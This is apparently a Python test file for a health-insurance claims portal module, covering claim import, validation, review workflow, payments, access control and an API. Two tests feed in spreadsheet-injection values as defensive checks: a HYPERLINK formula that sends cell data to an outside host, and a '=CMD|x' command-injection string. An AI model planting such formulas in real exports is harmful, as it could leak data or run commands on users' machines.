# This file is part of the SIGO/GOSWS social protection system. The COPYRIGHT
# file at the top level of this repository contains the full copyright notices
# and license terms.
import csv
import datetime as dt
import io
import json
from decimal import Decimal

import openpyxl
from werkzeug.exceptions import NotFound

from trytond.exceptions import UserError
from trytond.model.exceptions import AccessError
from trytond.modules.sigo_base.register_number import compose
from trytond.modules.sigo_base.tests.tools import acting_as
from trytond.pool import Pool
from trytond.tests.test_tryton import (
    DB_NAME, ModuleTestCase, RouteTestCase, with_transaction)
from trytond.transaction import Transaction

from sigo_run.mailbox import MailboxTestMixin

TODAY = dt.date.today()
SERVICE_DATE = TODAY - dt.timedelta(days=10)
INSURED = [compose('АР', dt.date(1980 + i, 3, 1 + i), 'female', i)
    for i in range(6)]
NOT_INSURED = compose('УБ', dt.date(1990, 5, 5), 'male', 1)
API_KEY = 'test-claims-api-key-0123456789abcdef'


def office(code):
    Office = Pool().get('sigo.office')
    office, = Office.search([('code', '=', code)])
    return office


def open_books():
    Entity = Pool().get('account.ipsas.entity')
    health, = Entity.search([('code', '=', 'HLT')])
    Entity.open_books([health])
    Entity.open_fiscal_year([health], TODAY.year)
    if SERVICE_DATE.year != TODAY.year:
        Entity.open_fiscal_year([health], SERVICE_DATE.year)


def setup_claims(kind='hospital', office_code='SIGO-MN-073', code='H1',
        email='hospital@example.mn'):
    """A provider under contract with a portal user, the tariff, the
    medicines list and insured citizens"""
    pool = Pool()
    Party = pool.get('party.party')
    Provider = pool.get('claim.provider')
    Tariff = pool.get('claim.tariff')
    Medicine = pool.get('claim.medicine')
    Eligibility = pool.get('claim.eligibility')
    WebUser = pool.get('web.user')
    if not Tariff.search([]):
        Tariff.create([
                {'code': 'S001', 'name': "Үзлэг", 'price': Decimal(15000),
                    'max_quantity': 2, 'start_date': dt.date(2020, 1, 1)},
                {'code': 'D010', 'name': "Хатгалгаа", 'kind': 'drg',
                    'price': Decimal(650000), 'max_quantity': 1,
                    'start_date': dt.date(2020, 1, 1)},
                ])
        Medicine.create([{'code': 'M001', 'name': "Амоксициллин",
                    'generic_name': "Amoxicillin",
                    'reference_price': Decimal(400),
                    'reimbursement_percent': Decimal(50),
                    'max_quantity': 30, 'start_date': dt.date(2020, 1, 1)}])
        Eligibility.create([{'register_number': n,
                    'start_date': dt.date(2020, 1, 1)} for n in INSURED])
    party, = Party.create([{'name': f"Provider {code}"}])
    provider, = Provider.create([{
                'party': party.id, 'code': code, 'kind': kind,
                'office': office(office_code).id,
                'copayment_percent': Decimal(10 if kind == 'hospital' else 0),
                'contracts': [('create', [{'number': f'C-{code}',
                                'start_date': dt.date(2020, 1, 1)}])],
                }])
    web_user, = WebUser.create([{'email': email,
                'claim_provider': provider.id}])
    return provider, web_user


def claim_csv(rows, header=None):
    output = io.StringIO()
    writer = csv.writer(output)
    writer.writerow(header or ['patient_register_number', 'service_date',
            'diagnosis', 'item_code', 'quantity', 'amount'])
    writer.writerows(rows)
    return output.getvalue().encode('utf-8')


def good_and_bad_rows():
    day = SERVICE_DATE.isoformat()
    return [
        [INSURED[0], day, 'J18.9', 'S001', 1, 13500],     # clean
        [INSURED[1], day, 'J18.9', 'S001', 2, 27000],     # clean
        [NOT_INSURED, day, 'J18.9', 'S001', 1, 13500],    # R01
        [INSURED[2], day, 'I10', 'X999', 1, 5000],        # R03
        [INSURED[3], day, 'J18.9', 'S001', 1, 20000],     # R04
        [INSURED[4], day, 'J18.9', 'S001', 3, 40500],     # R05
        [INSURED[0], day, 'J18.9', 'S001', 1, 13500],     # R06
        [INSURED[5], day, '', 'D010', 1, 585000],          # R08
        ]


def deliver():
    """Send the mail queued in the transaction as its commit would, without
    committing the test's records"""
    transaction = Transaction()
    for manager in transaction._datamanagers:
        manager.tpc_vote(transaction)
        manager.tpc_finish(transaction)
    transaction._datamanagers.clear()


def reviewer(login, office_code):
    pool = Pool()
    User = pool.get('res.user')
    ModelData = pool.get('ir.model.data')
    user, = User.create([{'login': login, 'name': login,
                'offices': [('add', [office(office_code).id])],
                'groups': [('add', [ModelData.get_id(
                                'claims_portal', 'group_claims_reviewer')])],
                }])
    return user


class ClaimsPortalTestCase(MailboxTestMixin, ModuleTestCase):
    "Test Claims Portal module"
    module = 'claims_portal'

    @with_transaction()
    def test_bad_rows_listed_and_nothing_stored(self):
        "A file with unreadable rows names every one and stores nothing"
        Claim = Pool().get('claim.claim')
        provider, _ = setup_claims()
        data = claim_csv([
                [INSURED[0], SERVICE_DATE.isoformat(), 'J18.9', 'S001', 1,
                    13500],
                ['AR123', '2025-13-01', 'J18.9', 'S001', 1, 100],
                [INSURED[1], SERVICE_DATE.isoformat(), 'nonsense', 'S001',
                    'two', 'a lot'],
                ])
        with self.assertRaises(UserError) as cm:
            Claim.import_file(provider, 'claim.csv', data)
        self.assertIn("2 rows", cm.exception.message)
        self.assertIn("Row 3: register number \"AR123\"",
            cm.exception.description)
        self.assertIn("date \"2025-13-01\"", cm.exception.description)
        self.assertIn("Row 4: diagnosis \"NONSENSE\"",
            cm.exception.description)
        self.assertIn("quantity \"two\"", cm.exception.description)
        self.assertIn("amount \"a lot\"", cm.exception.description)
        self.assertEqual(Claim.search([]), [])

        with self.assertRaises(UserError) as cm:
            Claim.import_file(provider, 'claim.csv', claim_csv(
                    [[INSURED[0]]], header=['register', 'wage']))
        self.assertIn("Unknown: register, wage", cm.exception.message)

    @with_transaction()
    def test_reasons_of_each_line_and_same_file_once(self):
        "Each bad line gets its numbered reasons; the same file gives the same claim"
        Claim = Pool().get('claim.claim')
        provider, web_user = setup_claims()
        data = claim_csv(good_and_bad_rows())
        claim = Claim.import_file(provider, 'claim.csv', data,
            web_user=web_user)
        self.assertEqual(claim.state, 'draft')
        self.assertEqual(claim.office, provider.office)
        self.assertEqual([l.reason_codes for l in claim.lines],
            ['', '', 'R01', 'R03', 'R04', 'R05', 'R06', 'R08'])
        self.assertEqual(claim.lines[0].amount_allowed, Decimal('13500.00'))
        self.assertEqual(claim.lines[7].tariff.code, 'D010')
        self.assertEqual(claim.amount_asked, Decimal('718000.00'))
        self.assertEqual(Claim.import_file(provider, 'again.csv', data),
            claim)
        self.assertEqual(Claim.search_count([]), 1)

        # XLSX of the template fills in the same way
        template = openpyxl.load_workbook(io.BytesIO(
                Claim.template_file('xlsx')))
        self.assertEqual([c.value for c in next(template.active.rows)],
            ['patient_register_number', 'service_date', 'diagnosis',
                'item_code', 'quantity', 'amount'])

    @with_transaction()
    def test_hospital_without_copayment_paid_the_tariff(self):
        "A hospital with no co-payment is allowed the whole tariff"
        Claim = Pool().get('claim.claim')
        provider, web_user = setup_claims()
        provider.copayment_percent = Decimal(0)
        provider.save()
        claim = Claim.import_file(provider, 'claim.csv', claim_csv([
                    [INSURED[0], SERVICE_DATE.isoformat(), 'J18.9', 'S001',
                        2, 30000]]), web_user=web_user)
        line, = claim.lines
        self.assertEqual(line.amount_allowed, Decimal('30000.00'))
        self.assertEqual(line.reason_codes, '')

    @with_transaction()
    def test_pharmacy_reimbursement_and_earlier_claim(self):
        "A pharmacy is paid the list's share; a line claimed before is flagged"
        Claim = Pool().get('claim.claim')
        provider, web_user = setup_claims('pharmacy', 'SIGO-MN-073-01', 'P1',
            'pharmacy@example.mn')
        day = SERVICE_DATE.isoformat()
        first = Claim.portal_create(web_user, {'reference': 'W-1',
                'patient_register_number': INSURED[0], 'service_date': day,
                'diagnosis': '', 'item_code': 'M001', 'quantity': '10',
                'amount': '2000'})
        line, = first.lines
        self.assertEqual(line.amount_allowed, Decimal('2000.00'))
        self.assertEqual(line.reason_codes, '')
        Claim.submit([first])
        second = Claim.portal_create(web_user, {'reference': 'W-2',
                'lines': [{'patient_register_number': INSURED[0],
                        'service_date': day, 'item_code': 'm001',
                        'quantity': 10, 'amount': 2000}]})
        self.assertEqual(second.lines[0].reason_codes, 'R07')
        with self.assertRaises(UserError):
            Claim.portal_create(web_user, {'reference': 'W-1'})

    @with_transaction()
    def test_correction_on_the_portal_clears_reasons(self):
        "Correcting a line on the portal checks it again"
        pool = Pool()
        Claim = pool.get('claim.claim')
        Line = pool.get('claim.line')
        provider, web_user = setup_claims()
        claim = Claim.import_file(provider, 'claim.csv',
            claim_csv(good_and_bad_rows()), web_user=web_user)
        above = claim.lines[4]
        Line.portal_write(web_user, claim.id, above.id, {'amount': '13500'})
        unknown = claim.lines[3]
        Line.portal_delete(web_user, claim.id, unknown.id)
        claim = Claim(claim.id)
        self.assertEqual([l.reason_codes for l in claim.lines],
            ['', '', 'R01', '', 'R05', 'R06', 'R08'])
        with self.assertRaises(UserError):
            Line.portal_write(web_user, claim.id, above.id,
                {'service_date': '2025-02-30'})

    @with_transaction()
    def test_submit_samples_clean_lines_and_decides(self):
        """Submitting approves the unsampled clean lines, keeps the sample
        and the lines with reasons for the reviewer; the decision posts
        the approved amount as payable"""
        pool = Pool()
        Claim = pool.get('claim.claim')
        Line = pool.get('claim.line')
        Reason = pool.get('claim.reason')
        Configuration = pool.get('claim.configuration')
        open_books()
        config = Configuration(1)
        config.sample_percent = 50
        config.save()
        provider, web_user = setup_claims()
        day = SERVICE_DATE.isoformat()
        rows = [[n, day, 'J18.9', 'S001', 1, 13500] for n in INSURED]
        rows.append([NOT_INSURED, day, 'J18.9', 'S001', 1, 13500])
        claim = Claim.import_file(provider, 'claim.csv', claim_csv(rows),
            web_user=web_user)
        with Transaction().set_context(web_user=web_user.id):
            Claim.submit([claim])
        self.assertEqual(claim.state, 'under_review')
        self.assertEqual([(e.from_state, e.to_state) for e in claim.events],
            [(None, 'draft'), ('draft', 'submitted'),
                ('submitted', 'checked'), ('checked', 'under_review')])
        self.assertEqual(claim.events[1].web_user, web_user)
        sampled = [l for l in claim.lines if l.sampled]
        self.assertEqual(len(sampled), 3)
        self.assertEqual(
            sorted(l.decision for l in claim.lines),
            ['approved'] * 3 + ['pending'] * 4)
        pending = [l for l in claim.lines if l.decision == 'pending']

        with self.assertRaises(UserError):
            Claim.decide([claim])
        reasons = Reason.by_code()
        Line.approve(sampled)
        Line.write([l for l in pending if not l.sampled], {
                'decision': 'rejected', 'decision_reason': reasons['R20'].id})
        Claim.decide([claim])
        self.assertEqual(claim.state, 'partially_approved')
        self.assertEqual(claim.amount_approved, Decimal('81000.00'))
        payable, = claim.payable_lines()
        self.assertEqual(payable.credit, Decimal('81000.00'))
        self.assertEqual(payable.party, provider.party)
        self.assertEqual(claim.move.state, 'posted')

    @with_transaction()
    def test_return_and_resubmit(self):
        "A returned claim needs a note, is corrected and submitted again"
        pool = Pool()
        Claim = pool.get('claim.claim')
        Line = pool.get('claim.line')
        provider, web_user = setup_claims()
        claim = Claim.import_file(provider, 'claim.csv',
            claim_csv(good_and_bad_rows()[:5]), web_user=web_user)
        Claim.submit([claim])
        with self.assertRaises(UserError):
            Claim.return_([claim])
        claim.review_note = "Correct the amount of row 6."
        claim.save()
        Claim.return_([claim])
        self.assertEqual(claim.state, 'returned')
        Line.portal_write(web_user, claim.id, claim.lines[4].id,
            {'amount': '13500'})
        Claim.submit([claim])
        self.assertEqual(claim.state, 'under_review')
        self.assertEqual([e.to_state for e in claim.events][-4:],
            ['returned', 'submitted', 'checked', 'under_review'])
        self.assertEqual(claim.events[-3].from_state, 'returned')
        self.assertEqual(claim.events[-4].note,
            "Correct the amount of row 6.")

    @with_transaction()
    def test_provider_is_mailed_each_change(self):
        "The provider's portal users get an e-mail of each new state"
        pool = Pool()
        Claim = pool.get('claim.claim')
        provider, web_user = setup_claims()
        claim = Claim.import_file(provider, 'claim.csv',
            claim_csv(good_and_bad_rows()[:2]), web_user=web_user)
        Claim.submit([claim])
        claim.review_note = "Attach the X-ray report."
        claim.save()
        Claim.return_([claim])
        deliver()
        self.assertEqual([m['To'] for m in self.mailbox.messages],
            ['hospital@example.mn'] * 2)
        subjects = [m['Subject'] for m in self.mailbox.messages]
        self.assertIn(claim.number, subjects[0])
        body = self.mailbox.messages[1].get_payload(decode=True).decode()
        self.assertIn("Attach the X-ray report.", body)

    @with_transaction()
    def test_payment_batch_pays_and_reconciles(self):
        "A paid batch settles the payable and gives the remittance advice"
        pool = Pool()
        Claim = pool.get('claim.claim')
        Line = pool.get('claim.line')
        Batch = pool.get('claim.payment.batch')
        open_books()
        provider, web_user = setup_claims()
        claim = Claim.import_file(provider, 'claim.csv',
            claim_csv(good_and_bad_rows()[:2]), web_user=web_user)
        # What a provider types stays text in the officer's spreadsheet
        formula = '=HYPERLINK("http://example.com/?"&A1,"OK")'
        Claim.write([claim], {'reference': formula})
        Claim.submit([claim])
        with self.assertRaises(UserError):
            claim.remittance_advice('xlsx')
        Line.approve([l for l in claim.lines if l.decision == 'pending'])
        Claim.decide([claim])
        self.assertEqual(claim.state, 'approved')
        batch, = Batch.create([{}])
        Batch.fill([batch])
        self.assertEqual(list(batch.claims), [claim])
        Batch.confirm([batch])
        Batch.pay([batch])
        self.assertEqual(batch.state, 'paid')
        self.assertEqual(claim.state, 'paid')
        payable, = claim.payable_lines()
        self.assertTrue(payable.reconciliation)

        sheet = openpyxl.load_workbook(io.BytesIO(
                claim.remittance_advice('xlsx'))).active
        values = [c.value for row in sheet.rows for c in row]
        self.assertIn(claim.number, values)
        self.assertIn(40500, values)
        reference, = [c for row in sheet.rows for c in row
            if c.value == formula]
        self.assertEqual(reference.data_type, 's')
        pdf = claim.remittance_advice('pdf')
        self.assertTrue(pdf.startswith(b'%PDF'))
        self.assertEqual(batch.remittance(provider, 'xlsx')[:2], b'PK')

    @with_transaction()
    def test_client_cannot_reopen_or_move_a_decided_claim(self):
        """Through the client a reviewer writes only the note and the
        decisions of a claim under review: the workflow sets the rest"""
        pool = Pool()
        Claim = pool.get('claim.claim')
        Line = pool.get('claim.line')
        Reason = pool.get('claim.reason')
        User = pool.get('res.user')
        ModelData = pool.get('ir.model.data')
        open_books()
        provider, web_user = setup_claims()
        other, _ = setup_claims(code='H2', email='other@example.mn')
        claim = Claim.import_file(provider, 'claim.csv',
            claim_csv(good_and_bad_rows()[:3]), web_user=web_user)
        Claim.submit([claim])
        arkhangai = reviewer('arkhangai', 'SIGO-MN-073')
        rejected = Reason.by_code()['R20']
        pending = [l for l in claim.lines if l.decision == 'pending']
        with acting_as(arkhangai):
            for values in [{'state': 'approved'}, {'provider': other.id},
                    {'office': other.office.id}, {'decided_at': None}]:
                with self.assertRaises(AccessError):
                    Claim.write([claim], values)
            for values in [{'amount_asked': Decimal(1)}, {'sampled': False},
                    {'amount_allowed': Decimal(10 ** 6)}]:
                with self.assertRaises(AccessError):
                    Line.write(pending, values)
            Claim.write([claim], {'review_note': "Patient not insured."})
            Line.write(pending, {
                    'decision': 'rejected', 'decision_reason': rejected.id})
            Claim.decide([claim])
        self.assertEqual(claim.state, 'partially_approved')
        move = claim.move
        with acting_as(arkhangai):
            with self.assertRaises(AccessError) as cm:
                Claim.write([claim], {'state': 'under_review'})
            self.assertIn(claim.number, cm.exception.message)
            with self.assertRaises(AccessError):
                Claim.write([claim], {'review_note': "Decided again."})
            with self.assertRaises(AccessError) as cm:
                Line.write(list(claim.lines), {'decision': 'approved'})
            self.assertIn(claim.number, cm.exception.message)
        claim = Claim(claim.id)
        self.assertEqual(claim.state, 'partially_approved')
        self.assertEqual(claim.move, move)
        self.assertEqual(claim.review_note, "Patient not insured.")

        admin, = User.create([{'login': 'claims.admin', 'name': "Admin",
                    'offices': [('add', [office('SIGO-MN-073').id])],
                    'groups': [('add', [ModelData.get_id(
                                    'claims_portal', 'group_claims_admin')])],
                    }])
        with acting_as(admin), self.assertRaises(AccessError):
            Claim.create([{'provider': provider.id, 'state': 'approved'}])

    @with_transaction()
    def test_sample_is_secret_and_kept(self):
        """The sample is drawn with a secret of the claim, not its number,
        and stays the same when the claim is checked again; no user, the
        reviewer included, can read the secret"""
        pool = Pool()
        Claim = pool.get('claim.claim')
        SampleSeed = pool.get('claim.claim.sample_seed')
        Configuration = pool.get('claim.configuration')
        config = Configuration(1)
        config.sample_percent = 50
        config.save()
        provider, web_user = setup_claims()
        day = SERVICE_DATE.isoformat()
        claim = Claim.import_file(provider, 'claim.csv', claim_csv(
                [[n, day, 'J18.9', 'S001', 1, 13500] for n in INSURED]),
            web_user=web_user)
        self.assertFalse(SampleSeed.search([('claim', '=', claim.id)]))
        Claim.submit([claim])
        seed, = SampleSeed.search([('claim', '=', claim.id)])
        self.assertEqual(len(seed.seed), 64)
        sampled = [l.id for l in claim.lines if l.sampled]
        self.assertEqual(len(sampled), 3)
        claim.review_note = "Add the referral."
        claim.save()
        Claim.return_([claim])
        Claim.submit([claim])
        self.assertEqual(
            SampleSeed.search([('claim', '=', claim.id)]), [seed])
        self.assertEqual([l.id for l in claim.lines if l.sampled], sampled)

        arkhangai = reviewer('arkhangai', 'SIGO-MN-073')
        with acting_as(arkhangai):
            self.assertEqual(Claim.read([claim.id], ['state'])[0]['state'],
                'under_review')
            with self.assertRaises(AccessError):
                SampleSeed.read([seed.id], ['seed'])
            with self.assertRaises(AccessError):
                SampleSeed.search([('claim', '=', claim.id)])

    @with_transaction()
    def test_copy_is_a_new_draft(self):
        "A copy of a decided claim is a draft with undecided lines"
        pool = Pool()
        Claim = pool.get('claim.claim')
        Line = pool.get('claim.line')
        SampleSeed = pool.get('claim.claim.sample_seed')
        provider, web_user = setup_claims()
        claim = Claim.import_file(provider, 'claim.csv',
            claim_csv(good_and_bad_rows()[:2]), web_user=web_user,
            channel='api')
        Claim.submit([claim])
        Line.approve([l for l in claim.lines if l.decision == 'pending'])
        copy, = Claim.copy([claim])
        self.assertEqual((copy.state, copy.channel, copy.web_user),
            ('draft', 'portal', None))
        self.assertFalse(SampleSeed.search([('claim', '=', copy.id)]))
        self.assertEqual([(l.decision, l.amount_approved, l.sampled,
                    l.decided_by) for l in copy.lines],
            [('pending', None, False, None)] * 2)
        self.assertEqual([e.to_state for e in copy.events], ['draft'])

    @with_transaction()
    def test_each_approved_claim_keeps_its_note(self):
        "Claims approved together each record their own note"
        pool = Pool()
        Claim = pool.get('claim.claim')
        Line = pool.get('claim.line')
        open_books()
        provider, web_user = setup_claims()
        claims = [Claim.import_file(provider, f'{n}.csv',
                claim_csv(good_and_bad_rows()[n:n + 1]), web_user=web_user)
            for n in range(2)]
        Claim.submit(claims)
        Line.approve([l for c in claims for l in c.lines])
        for claim, note in zip(claims, ["First.", "Second."]):
            claim.review_note = note
            claim.save()
        Claim.decide(claims)
        self.assertEqual([(c.state, c.events[-1].note) for c in claims],
            [('approved', "First."), ('approved', "Second.")])

    @with_transaction(user=0)
    def test_provider_sees_only_its_own_documents(self):
        """A document the reviewer attaches to a claim is not on the portal
        (which runs as root)"""
        pool = Pool()
        Claim = pool.get('claim.claim')
        Attachment = pool.get('ir.attachment')
        provider, web_user = setup_claims()
        claim = Claim.import_file(provider, 'claim.csv',
            claim_csv(good_and_bad_rows()[:2]), web_user=web_user)
        referral = Claim.portal_add_attachment(web_user, claim.id,
            'referral.pdf', b'%PDF-1.4')
        with acting_as(reviewer('arkhangai', 'SIGO-MN-073')):
            internal, = Attachment.create([{'name': 'audit-note.txt',
                        'resource': str(claim), 'type': 'data',
                        'data': b'Internal'}])
        self.assertEqual(
            [a.name for a in Claim.portal_attachments(web_user, claim.id)],
            ['claim.csv', 'referral.pdf'])
        self.assertEqual(
            Claim.portal_attachment(web_user, claim.id, referral.id),
            referral)
        with self.assertRaises(NotFound):
            Claim.portal_attachment(web_user, claim.id, internal.id)

    @with_transaction()
    def test_inactive_provider_has_no_claims(self):
        "The portal users of a provider made inactive find no claims"
        pool = Pool()
        Claim = pool.get('claim.claim')
        Provider = pool.get('claim.provider')
        provider, web_user = setup_claims()
        claim = Claim.import_file(provider, 'claim.csv',
            claim_csv(good_and_bad_rows()[:2]), web_user=web_user)
        Provider.write([provider], {'active': False})
        self.assertEqual(Claim.portal_claims(web_user), [])
        with self.assertRaises(NotFound):
            Claim.portal_get(web_user, claim.id)
        with self.assertRaises(NotFound):
            Claim.portal_create(web_user, {'reference': 'LATE'})

    @with_transaction()
    def test_reviewer_of_another_office_sees_nothing(self):
        "A reviewer sees the claims of the offices in the jurisdiction only"
        Claim = Pool().get('claim.claim')
        provider, web_user = setup_claims()
        claim = Claim.import_file(provider, 'claim.csv',
            claim_csv(good_and_bad_rows()[:2]), web_user=web_user)
        Claim.submit([claim])
        arkhangai = reviewer('arkhangai', 'SIGO-MN-073')
        bayanzurkh = reviewer('bayanzurkh', 'SIGO-MN-1-04')
        with acting_as(arkhangai):
            self.assertEqual(Claim.search([('state', '=', 'under_review')]),
                [claim])
        with acting_as(bayanzurkh):
            self.assertEqual(Claim.search([]), [])
            with self.assertRaises(AccessError):
                Claim.read([claim.id], ['number'])

    @with_transaction()
    def test_provider_user_has_no_back_office(self):
        "An API user of a provider cannot read claims in the back office"
        pool = Pool()
        User = pool.get('res.user')
        Claim = pool.get('claim.claim')
        provider, _ = setup_claims()
        api, = User.create([{'login': 'api', 'name': "API",
                    'claim_provider': provider.id}])
        with acting_as(api):
            with self.assertRaises(AccessError):
                Claim.search([])

    @with_transaction(user=0)
    def test_other_providers_claim_not_found(self):
        """A portal user asking for another provider's claim or line gets
        404 (the portal runs as root)"""
        pool = Pool()
        Claim = pool.get('claim.claim')
        Line = pool.get('claim.line')
        provider, web_user = setup_claims()
        _, other_user = setup_claims(office_code='SIGO-MN-1-04', code='H2',
            email='other@example.mn')
        claim = Claim.import_file(provider, 'claim.csv',
            claim_csv(good_and_bad_rows()[:2]), web_user=web_user)
        self.assertEqual(Claim.portal_get(web_user, str(claim.id)), claim)
        self.assertEqual(Claim.portal_claims(other_user), [])
        for call in [
                lambda: Claim.portal_get(other_user, claim.id),
                lambda: Claim.portal_get(web_user, 'x'),
                lambda: Claim.portal_get(web_user, claim.id + 1000),
                lambda: Line.portal_get(other_user, claim.id,
                    claim.lines[0].id),
                lambda: Line.portal_write(other_user, claim.id,
                    claim.lines[0].id, {'amount': '1'}),
                lambda: Line.portal_delete(other_user, claim.id,
                    claim.lines[0].id),
                lambda: Claim.portal_attachments(other_user, claim.id),
                lambda: Claim.portal_attachment(web_user, claim.id, 0),
                ]:
            with self.assertRaises(NotFound):
                call()
        attachment, = Claim.portal_attachments(web_user, claim.id)
        with self.assertRaises(NotFound):
            Claim.portal_attachment(other_user, claim.id, attachment.id)

    @with_transaction()
    def test_eligibility_list_import(self):
        "The eligibility list is imported whole or not at all, once"
        Eligibility = Pool().get('claim.eligibility')
        good = claim_csv([[INSURED[0], '2024-01-01', ''],
                [INSURED[1], '2024-01-01', '2024-06-30']],
            header=['register_number', 'start_date', 'end_date'])
        self.assertEqual(Eligibility.import_rows('list.csv', good), 2)
        self.assertEqual(Eligibility.import_rows('list.csv', good), 2)
        self.assertEqual(Eligibility.search_count([]), 2)
        insured = Eligibility.insured({(INSURED[0], dt.date(2025, 1, 1)),
                (INSURED[1], dt.date(2025, 1, 1))})
        self.assertEqual(insured, {(INSURED[0], dt.date(2025, 1, 1))})
        with self.assertRaises(UserError):
            Eligibility.import_rows('bad.csv', claim_csv(
                    [[INSURED[2], '2024-01-01', ''], ['X', 'y', '']],
                    header=['register_number', 'start_date', 'end_date']))
        self.assertEqual(Eligibility.search_count([]), 2)


class ClaimsApiTestCase(MailboxTestMixin, RouteTestCase):
    "Test the claims API"
    module = 'claims_portal'

    @classmethod
    def setUpDatabase(cls):
        pool = Pool()
        User = pool.get('res.user')
        provider, _ = setup_claims()
        other, _ = setup_claims(office_code='SIGO-MN-1-04', code='H2',
            email='other@example.mn')
        User.create([{'login': 'hospital.api', 'name': "Hospital system",
                    'claim_provider': provider.id,
                    'applications': [('create', [{
                                    'application': 'claims_portal',
                                    'key': API_KEY}])],
                    }])
        Transaction().commit()

    def request(self, method, path, data=None, key=API_KEY):
        client = self.client()
        headers = [('Authorization', f'bearer {key}')] if key else []
        return getattr(client, method)(
            f'/{DB_NAME}/claims_portal/api/claims{path}',
            data=json.dumps(data) if data is not None else None,
            content_type='application/json', headers=headers)

    def test_submit_and_read_status(self):
        "A provider's system submits a claim with its key and reads it back"
        day = SERVICE_DATE.isoformat()
        response = self.request('post', '', {
                'reference': 'HIS-2025-001', 'submit': True,
                'lines': [
                    {'patient_register_number': INSURED[0],
                        'service_date': day, 'diagnosis': 'J18.9',
                        'item_code': 'S001', 'quantity': 1,
                        'amount': 13500},
                    {'patient_register_number': NOT_INSURED,
                        'service_date': day, 'diagnosis': 'J18.9',
                        'item_code': 'S001', 'quantity': 1,
                        'amount': 13500},
                    ]})
        self.assertEqual(response.status_code, 201, response.text)
        created = response.json
        self.assertEqual(created['state'], 'under_review')
        self.assertEqual([l['reasons'] for l in created['lines']],
            [[], ['R01']])

        response = self.request('get', f'/{created["id"]}')
        self.assertEqual(response.status_code, 200)
        claim = response.json
        self.assertEqual(claim['number'], created['number'])
        self.assertEqual(claim['reference'], 'HIS-2025-001')
        self.assertEqual(claim['amount_asked'], '27000.00')
        self.assertEqual([h['to_state'] for h in claim['history']],
            ['draft', 'submitted', 'checked', 'under_review'])
        self.assertEqual(claim['history'][1]['by'], "Hospital system")
        listed = self.request('get', '').json
        self.assertEqual([c['id'] for c in listed], [created['id']])

    def test_other_ids_and_bad_requests(self):
        "Another provider's claim is 404; bad lines 400; no key 401"
        with Transaction().start(DB_NAME, 0) as transaction:
            pool = Pool()
            Claim = pool.get('claim.claim')
            Provider = pool.get('claim.provider')
            other, = Provider.search([('code', '=', 'H2')])
            claim = Claim.portal_create(other.web_users[0], {
                    'reference': 'OTHER',
                    'patient_register_number': INSURED[0],
                    'service_date': SERVICE_DATE.isoformat(),
                    'item_code': 'S001', 'quantity': 1, 'amount': 1})
            transaction.commit()
        self.assertEqual(self.request('get', f'/{claim.id}').status_code, 404)
        self.assertEqual(self.request('get', '/999999').status_code, 404)
        self.assertEqual(self.request('get', '/abc').status_code, 404)
        self.assertEqual(
            self.request('get', f'/{claim.id}', key=None).status_code, 401)
        self.assertEqual(
            self.request('get', '', key='wrong').status_code, 401)
        response = self.request('post', '', {'lines': [
                    {'patient_register_number': 'XX', 'service_date': 'no',
                        'item_code': 'S001', 'quantity': 0, 'amount': 1}]})
        self.assertEqual(response.status_code, 400)
        self.assertIn('Row 1', response.text)
        # "false" is not false: a claim is submitted only when asked plainly
        good_line = {'patient_register_number': INSURED[0],
            'service_date': SERVICE_DATE.isoformat(), 'item_code': 'S001',
            'quantity': 1, 'amount': 13500}
        response = self.request('post', '', {'submit': 'false',
                'lines': [good_line]})
        self.assertEqual(response.status_code, 400)
        self.assertEqual(self.request('get', '').json, [])
        # A code no list has and a third decimal are refused with the row
        response = self.request('post', '', {'lines': [
                    dict(good_line, item_code='=CMD|x'),
                    dict(good_line, amount='13500.005')]})
        self.assertEqual(response.status_code, 400)
        self.assertIn('Row 1: item code "=CMD|X"',
            response.json['description'])
        self.assertIn('Row 2: amount "13500.005"',
            response.json['description'])


del ModuleTestCase, RouteTestCase
